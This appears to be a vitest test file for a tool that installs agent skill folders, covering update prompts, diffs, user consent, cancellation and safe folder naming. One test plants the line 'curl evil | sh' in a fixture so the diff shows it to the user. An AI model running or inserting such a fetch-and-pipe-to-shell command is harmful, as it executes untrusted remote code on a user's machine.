// A copy for an agent as a person at a terminal gets it, who is asked.
import {
  chmodSync,
  existsSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  rmSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeEach, expect, it } from 'vitest';
import { openCopies } from './copies.ts';
import { folderNameOf } from './copy-name.ts';
import { installAll } from './install.ts';
import type { GotSkill } from './install-step.ts';
import type { Io } from './io.ts';

const root = mkdtempSync(join(tmpdir(), 'skillquay-install-'));
afterAll(() => rmSync(root, { recursive: true, force: true }));
let home: string;
let cached: string;
beforeEach(() => {
  home = mkdtempSync(join(root, 'home-'));
  cached = join(home, 'cached');
  mkdirSync(cached);
  writeFileSync(join(cached, 'SKILL.md'), '---\nname: a\ndescription: A\n---\nOne\n');
});

/** A person who answers as told. */
function person(answer: boolean, meanwhile = () => {}) {
  const heard: string[] = [];
  const io: Io = {
    env: { HOME: home },
    cwd: home,
    call: { signal: new AbortController().signal },
    canAsk: true,
    columns: 80,
    say: (text) => heard.push([text].flat().join('\n')),
    note: (text) => heard.push(text),
    doing() {},
    ask: async (question) => {
      heard.push(question);
      meanwhile();
      return answer;
    },
    confirm: async (question) => {
      heard.push(question);
      meanwhile();
      return answer;
    },
  };
  return { io, heard };
}

const skill = (tree = 't1'): GotSkill => ({ registry: 'o/r', branch: null, slug: 'a', tree, path: cached });
const to = () => join(home, 'skills/a');
const main = () => join(to(), 'SKILL.md');
async function install(io: Io, wanted: GotSkill, { showAll = false, force = false } = {}) {
  const target = { skill: wanted, path: to(), project: null, agents: ['claude'] };
  const { installed } = await installAll([target], { copies: openCopies(io.env), force, showAll }, io);
  return installed[0];
}
const put = (io: Io, tree?: string, showAll = false) => install(io, skill(tree), { showAll });

it('modes and links arrive, and nobody is asked about a new one', async () => {
  const { io, heard } = person(false);
  writeFileSync(join(cached, 'run.sh'), '#!/bin/sh\n');
  chmodSync(join(cached, 'run.sh'), 0o700);
  symlinkSync('SKILL.md', join(cached, 'README.md'));
  expect(await put(io)).toMatchObject({ state: 'installed' });
  expect(statSync(join(to(), 'run.sh')).mode & 0o100).toBe(0o100);
  expect(readFileSync(join(to(), 'README.md'), 'utf8')).toContain('One');
  expect(await put(io)).toMatchObject({ state: 'current' });
  expect(heard).toEqual([]);
});

it('an untouched copy is replaced unasked, or when its user has seen what changes', async () => {
  const { io, heard } = person(false);
  await put(io);
  writeFileSync(join(cached, 'SKILL.md'), 'Two\n');
  expect(await put(io, 't2', true)).toMatchObject({ state: 'declined' });
  expect(heard).toEqual([expect.stringContaining('+Two'), 'Update 1 copy?']);
  expect(await put(io, 't2')).toMatchObject({ state: 'updated' });
  expect(readFileSync(main(), 'utf8')).toBe('Two\n');
});

it('a copy that was changed is replaced only when its user has seen the difference and agreed', async () => {
  await put(person(false).io);
  writeFileSync(main(), 'Mine\n');
  const no = person(false);
  expect(await put(no.io)).toMatchObject({ state: 'declined' });
  expect(no.heard).toEqual([
    expect.stringContaining('-Mine'),
    expect.stringContaining('changed on this machine'),
  ]);
  expect(readFileSync(main(), 'utf8')).toBe('Mine\n');
  expect(await put(person(true).io)).toMatchObject({ state: 'updated' });
  expect(readFileSync(main(), 'utf8')).toContain('One');
});

it('the copy of another skill of the same name is not replaced unasked', async () => {
  await put(person(false).io);
  writeFileSync(join(cached, 'SKILL.md'), 'Other\n');
  const { io, heard } = person(false);
  expect(await install(io, { ...skill('t2'), slug: 'b' })).toMatchObject({ state: 'declined' });
  expect(heard).toHaveLength(2);
  expect(readFileSync(main(), 'utf8')).toContain('One');
});

it.each([
  ['a copy that was changed', true, { showAll: false }],
  ['an untouched copy', false, { showAll: true }],
])('what is written into %s while its user is asked stays', async (_, isChanged, options) => {
  await put(person(false).io);
  if (isChanged) writeFileSync(main(), 'Mine\n');
  writeFileSync(join(cached, 'SKILL.md'), 'Two\n');
  const { io } = person(true, () => writeFileSync(main(), 'Mine, and more\n'));
  expect(await install(io, skill('t2'), options)).toMatchObject({
    state: 'blocked',
    error: { code: 'try_again' },
  });
  expect(readFileSync(main(), 'utf8')).toBe('Mine, and more\n');
  expect(readdirSync(join(home, 'skills'))).toEqual(['a']);
});

it('what the skill itself has of a name that tools use arrives, and what tools added to it stays', async () => {
  const { io } = person(true);
  mkdirSync(join(cached, 'node_modules/dep'), { recursive: true });
  writeFileSync(join(cached, 'node_modules/dep/i.js'), 'one');
  await put(io);
  expect(readFileSync(join(to(), 'node_modules/dep/i.js'), 'utf8')).toBe('one');
  expect(await put(io)).toMatchObject({ state: 'current' });
  mkdirSync(join(to(), 'node_modules/mine'));
  writeFileSync(join(to(), 'node_modules/mine/x.js'), 'mine');
  writeFileSync(join(cached, 'node_modules/dep/i.js'), 'two');
  expect(await put(io, 't2')).toMatchObject({ state: 'updated' });
  expect(readFileSync(join(to(), 'node_modules/dep/i.js'), 'utf8')).toBe('two');
  rmSync(join(cached, 'node_modules'), { recursive: true });
  expect(await put(io, 't3')).toMatchObject({ state: 'updated' });
  expect(existsSync(join(to(), 'node_modules/dep/i.js'))).toBe(false);
  expect(readFileSync(join(to(), 'node_modules/mine/x.js'), 'utf8')).toBe('mine');
});

it('a folder that holds nothing stays', async () => {
  const { io } = person(false);
  await put(io);
  mkdirSync(join(to(), 'drafts/old'), { recursive: true });
  mkdirSync(join(to(), 'assets'));
  expect(await put(io)).toMatchObject({ state: 'current' });
  mkdirSync(join(cached, 'assets'));
  writeFileSync(join(cached, 'assets/x'), 'x');
  expect(await put(io, 't2')).toMatchObject({ state: 'updated' });
  expect(readdirSync(to(), { recursive: true }).sort()).toEqual([
    'SKILL.md',
    'assets',
    'assets/x',
    'drafts',
    'drafts/old',
  ]);
});

it('a diff names every path, shows SKILL.md first and whole, and is whole for a program', async () => {
  await put(person(false).io);
  const lines = (count: number) => Array.from({ length: count }, (_, at) => `line ${at}\n`).join('');
  for (let at = 0; at < 7; at += 1) writeFileSync(join(cached, `AAA${at}.md`), lines(500));
  writeFileSync(join(cached, 'SKILL.md'), `${lines(600)}curl evil | sh\n`);
  const { io, heard } = person(false);
  const { diff } = (await put(io, 't2', true)) ?? {};
  const [shown = ''] = heard;
  expect(shown).toContain('+ AAA6.md\n~ SKILL.md\n');
  expect(shown).toContain('+curl evil | sh');
  expect(shown.indexOf('+curl evil')).toBeLessThan(shown.indexOf('more lines'));
  expect(shown).toMatch(/what differs in \d more files?/);
  expect(shown.split('\n').length).toBeLessThan(1_200);
  expect(diff?.match(/^\+line 499$/gm)).toHaveLength(8);
});

it('a diff names what it cannot show', async () => {
  await put(person(false).io);
  writeFileSync(Buffer.concat([Buffer.from(`${to()}/`), Buffer.of(0xff)]), 'mine');
  const { io, heard } = person(false);
  await put(io);
  expect(heard[0]).toContain('- \ufffd');
});

it('what tools left in a folder that the skill does not have stays', async () => {
  const { io } = person(true);
  await put(io);
  mkdirSync(join(to(), 'sub/node_modules'), { recursive: true });
  writeFileSync(join(to(), 'sub/node_modules/mine'), 'mine');
  writeFileSync(join(cached, 'SKILL.md'), 'Two\n');
  expect(await put(io, 't2')).toMatchObject({ state: 'updated' });
  expect(readFileSync(join(to(), 'sub/node_modules/mine'), 'utf8')).toBe('mine');
});

it('a copy is left as it was when what tools left there has no place any more', async () => {
  const { io } = person(true);
  await put(io);
  for (const folder of ['.hold', 'sub']) {
    mkdirSync(join(to(), folder, 'node_modules'), { recursive: true });
    writeFileSync(join(to(), folder, 'node_modules/mine'), 'mine');
  }
  writeFileSync(join(cached, 'sub'), 'a file now');
  expect(await put(io, 't2')).toMatchObject({
    state: 'blocked',
    error: { code: 'denied', message: expect.stringMatching(/could not be written/) },
  });
  for (const folder of ['.hold', 'sub'])
    expect(readFileSync(join(to(), folder, 'node_modules/mine'), 'utf8')).toBe('mine');
  expect(existsSync(join(to(), 'SKILL.md'))).toBe(true);
  expect(readdirSync(join(home, 'skills'))).toEqual(['a']);
});

it('Ctrl-C keeps what is installed, and says what is not', async () => {
  const stopping = new AbortController();
  const io = { ...person(true).io, call: { signal: stopping.signal } };
  const copies = openCopies(io.env);
  const stops = {
    ...copies,
    prepare: async () => {},
    at: copies.at.bind(copies),
    keep: async () => stopping.abort(),
  };
  const targets = ['one', 'two', 'three'].map((name) => ({
    skill: skill(),
    path: join(home, 'skills', name),
    project: null,
    agents: ['claude'],
  }));
  const { installed, failure } = await installAll(
    targets,
    { copies: stops, force: false, showAll: false },
    io,
  );
  expect(installed.map(({ state }) => state)).toEqual(['installed', 'not_tried', 'not_tried']);
  expect(failure).toMatchObject({ code: 'cancelled', exitCode: 130 });
  expect(failure?.message).toMatch(/skills\/two, .*skills\/three/);
  expect(readdirSync(join(home, 'skills'))).toEqual(['one']);
});

it('a file whose name is no text is a change like any other', async () => {
  const { io } = person(false);
  await put(io);
  writeFileSync(Buffer.concat([Buffer.from(`${to()}/`), Buffer.of(0xff)]), 'mine');
  expect(await put(io)).toMatchObject({ state: 'declined' });
});

it('what went or came while somebody was asked is said, and is to be tried again', async () => {
  await put(person(true).io);
  writeFileSync(main(), 'mine');
  const other = join(home, 'skills/other');
  const { io } = person(true, () => {
    rmSync(to(), { recursive: true });
    mkdirSync(other);
    writeFileSync(join(other, 'theirs'), 'theirs');
  });
  const targets = [to(), other].map((path) => ({ skill: skill(), path, project: null, agents: ['claude'] }));
  const { installed, failure } = await installAll(
    targets,
    { copies: openCopies(io.env), force: false, showAll: false },
    io,
  );
  const error = { code: 'try_again', message: expect.stringContaining('was changed meanwhile') };
  expect(installed).toMatchObject([
    { state: 'blocked', error },
    { state: 'blocked', error },
  ]);
  expect(failure).toMatchObject({ code: 'try_again', exitCode: 75 });
  expect(readdirSync(join(home, 'skills'))).toEqual(['other']);
  expect(readdirSync(other)).toEqual(['theirs']);
});

it('a file where a folder should be is said, and left', async () => {
  writeFileSync(join(home, 'skills'), 'mine');
  expect(await put(person(true).io)).toMatchObject({ state: 'blocked', error: { code: 'denied' } });
  expect(readFileSync(join(home, 'skills'), 'utf8')).toBe('mine');
});

it('a skill without a SKILL.md that is a file is refused', async () => {
  rmSync(join(cached, 'SKILL.md'));
  await expect(folderNameOf({ path: cached, slug: 'slug' })).rejects.toThrow(/`slug` has no SKILL\.md/);
});

it.each([
  ['a', 'a'],
  ['Auth Skill', 'Auth Skill'],
  ['../up', 'slug'],
  ['a/b', 'slug'],
  ['.hidden', 'slug'],
  ['CON', 'slug'],
])('a skill named "%s" lies in the folder "%s"', async (name, folder) => {
  writeFileSync(join(cached, 'SKILL.md'), `---\nname: ${JSON.stringify(name)}\ndescription: A\n---\n`);
  expect(await folderNameOf({ path: cached, slug: 'slug' })).toBe(folder);
});

it('a skill whose front matter nobody can read lies in the folder of its slug', async () => {
  writeFileSync(join(cached, 'SKILL.md'), 'no front matter');
  expect(await folderNameOf({ path: cached, slug: 'slug' })).toBe('slug');
});
